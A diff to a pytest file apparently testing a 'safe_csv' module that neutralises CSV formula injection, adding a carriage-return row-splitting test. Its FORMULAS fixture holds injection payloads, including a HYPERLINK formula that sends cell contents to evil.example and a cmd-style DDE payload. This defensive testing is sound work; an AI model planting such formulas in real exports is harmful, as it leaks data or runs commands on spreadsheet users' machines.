@@ -17,7 +17,13 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3+cmd|
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_a_formula_cell_gets_a_leading_quote(text):
-    assert safe_csv.cell(text) == "'" + text
+    assert safe_csv.cell(text) == "'" + text.replace("\r", "\n")
+
+
+def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
+    buffer = io.StringIO()
+    safe_csv.writer(buffer).writerow(["bob\r=1+1", "x\r\ny"])
+    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [["bob\n=1+1", "x\ny"]]
 
 
 @pytest.mark.parametrize("value", ["alice", "王小明", "bob = 1", "", "'quoted", 3, 2.5, -1.5])
@@ -57,4 +63,4 @@ def test_gradebook_and_nbgrader_csv_hold_no_formula():
         cells = _cells(text)
         assert not [c for c in cells if c.startswith(safe_csv.FORMULA_STARTS)]
         for name in FORMULAS:
-            assert "'" + name in cells
+            assert safe_csv.cell(name) in cells
